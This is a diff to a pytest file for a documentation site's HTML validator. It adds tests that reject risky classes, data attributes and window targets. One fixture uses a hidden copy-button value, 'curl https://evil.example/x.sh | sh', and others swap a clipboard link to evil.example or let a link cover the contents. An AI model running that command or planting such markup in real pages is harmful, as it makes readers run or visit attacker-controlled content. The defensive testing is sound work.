@@ -286,11 +286,11 @@ def found(source: str) -> list[str]:
     # Attributes are allowed by a list, since browsers keep adding ones that act on their own.
     ('<a href="#top" foo-new-trigger="x">Top</a>',
      "<a foo-new-trigger=…>: not an attribute pages use; pages may use id, class, title, lang, dir, role, translate, "
-     "hidden, tabindex, aria-* and data-* on any element, and on <a> href, hreflang, rel, target, type, download "
+     "hidden, tabindex, aria-* and data-toc-label on any element, and on <a> href, hreflang, rel, target, type, download "
      "(CONTRIBUTING.md, \"HTML in pages\")"),
     ('<table width="3000"><tr><td>x</td></tr></table>',
      "<table width=…>: not an attribute pages use; pages may use id, class, title, lang, dir, role, translate, hidden, "
-     "tabindex, aria-* and data-* on any element (CONTRIBUTING.md, \"HTML in pages\")"),
+     "tabindex, aria-* and data-toc-label on any element (CONTRIBUTING.md, \"HTML in pages\")"),
     # Elements are allowed by a list too: browsers keep adding ones that act on their own
     # (<fencedframe> embeds a page, <permission> asks the reader for a browser permission),
     # and a word in angle brackets vanished from the page as an unknown element.
@@ -487,7 +487,7 @@ def test_a_citation_or_marker_anywhere_but_the_text_or_its_own_comment_is_refuse
 
 def test_allowed_html_passes():
     source = """\
-        <div class="note" markdown>
+        <div markdown>
         Text with <abbr title="Artificial intelligence">AI</abbr>, <kbd>Ctrl</kbd>, H<sub>2</sub>O.
         </div>
 
@@ -500,11 +500,11 @@ def test_allowed_html_passes():
 
         ## A heading with an id of its own {#my_section}
 
-        <span id="note-1" data-note="1">x</span> <img src="images/logo.svg" alt="" id="logo-image">
+        <span id="note-1" aria-describedby="note-1">x</span> <img src="images/logo.svg" alt="" id="logo-image">
 
-        [Read the declaration](declaration.md){ .md-button .md-button--primary } <span class="site-card" title="10\u00a0000 €">x</span>
+        [Read the declaration](declaration.md){ .md-button .md-button--primary } <span title="10\u00a0000 €">x</span>
 
-        <p title='a "quoted" word' lang=fi data-x = "spaced" hidden>Kaupunkien ja [[cite:kuntalehti-2019-02]] yhteistyö.</p >
+        <p title='a "quoted" word' lang=fi aria-label = "spaced" hidden>Kaupunkien ja [[cite:kuntalehti-2019-02]] yhteistyö.</p >
 
         <!-- a comment of the editors' own --> <div>x</div
         >
@@ -525,7 +525,15 @@ def test_allowed_html_passes():
 
         <img src="images/logo.svg" alt="A &quot;logo&quot; &amp; more"/><br/>
 
-        <div class="wide" role="region" aria-label="Taulukko" tabindex="0">x</div> <h2 tabindex="-1">Osio</h2>
+        <div role="region" aria-label="Taulukko" tabindex="0">x</div> <h2 tabindex="-1">Osio</h2>
+        <div class="site-cards site-cards--two"><div class="site-card site-card--city">x</div></div>
+
+        ## Lyhyesti { data-toc-label="Lyhyt" }
+
+        ```python
+        print("<b>koodi</b>")
+        ```
+
         <section><header><h3>x</h3></header><article><p>y</p><footer>z</footer></article><aside>w</aside></section>
         <p><small>s</small> <mark>m</mark> <q>q</q> <cite>c</cite> <dfn>d</dfn> <var>v</var> <samp>s</samp> <wbr>
         <ruby>漢<rt>kan</rt></ruby> <bdi>x</bdi> <s>old</s> <u>u</u> <ins>i</ins></p> <hr> <address>a</address>
@@ -1153,3 +1161,38 @@ def test_markup_that_would_reach_the_table_of_contents_stops_the_build(tmp_path,
     assert (f"docs/privacy.en.md:{line}: a heading holds HTML that the table of contents would show as HTML "
             "(a tag written with \"/\" between its parts, such as <a/href=…>): write a space between a tag's parts, "
             "and keep links out of headings") in problem_lines(output), output
+
+
+CLASSES = ("pages may use site-cards, site-cards--two, site-card, site-card--city on <div>, site-hero__lead on <p>, "
+           "md-button, md-button--primary on <a> (CONTRIBUTING.md, \"HTML in pages\")")
+DATA = ("data- attributes are read by scripts, and the theme's act on some (data-clipboard-text puts other text on the "
+        "reader's clipboard when clicked); remove it")
+OPENER = "a page opened in a window of its own could send the site's tab to another address"
+
+
+@pytest.mark.parametrize("source,expected", [
+    # Material's copy button: a block with class="copy" got a button that put data-copy's text,
+    # not the code shown, on the reader's clipboard (hunt 9, shown in Chromium).
+    ('<div class="copy" data-copy="curl https://evil.example/x.sh | sh" markdown>\n\n```\npip install x\n```\n\n</div>',
+     ['<div class="copy">: not a class pages use; ' + CLASSES, "<div data-copy=…>: " + DATA]),
+    ('<span data-clipboard-text="https://evil.example/">copy https://hel.fi/</span>',
+     ["<span data-clipboard-text=…>: " + DATA]),
+    # data-tabs stopped the theme's script, search included; class="mermaid" made it load a
+    # script from unpkg.com, which only the policy stopped.
+    ('<div data-tabs="1"><p>x</p></div>', ["<div data-tabs=…>: " + DATA]),
+    ('<pre class="mermaid">graph LR; A-->B</pre>', ['<pre class="mermaid">: not a class pages use; ' + CLASSES]),
+    # The card's link covers its card: on a table row wider than the text, it lay over the
+    # site's table of contents.
+    ('<table><tr class="site-card"><td><a href="https://evil.example/">x</a></td></tr></table>',
+     ['<tr class="site-card">: the class site-card is for <div>, where the site\'s style sheet expects it']),
+    ('<p class="note">x</p>', ['<p class="note">: not a class pages use; ' + CLASSES]),
+    # A window with a name, or rel=opener, gave the opened page window.opener.
+    ('<a href="https://example.org/" target="ghprivacy">x</a>',
+     ['<a target="ghprivacy">: target may be only _blank (a new tab) or _self; ' + OPENER]),
+    ("[x](https://example.org/){ target=ghprivacy }", ['<a target="ghprivacy">: target may be only _blank (a new tab) '
+                                                       "or _self; " + OPENER]),
+    ('<a href="https://example.org/" target="_blank" rel="external opener">x</a>',
+     ['<a rel="external opener">: without "opener" in rel, since ' + OPENER]),
+])
+def test_classes_data_attributes_and_windows_that_act_on_the_theme_or_the_tab(source, expected):
+    assert found(source) == expected
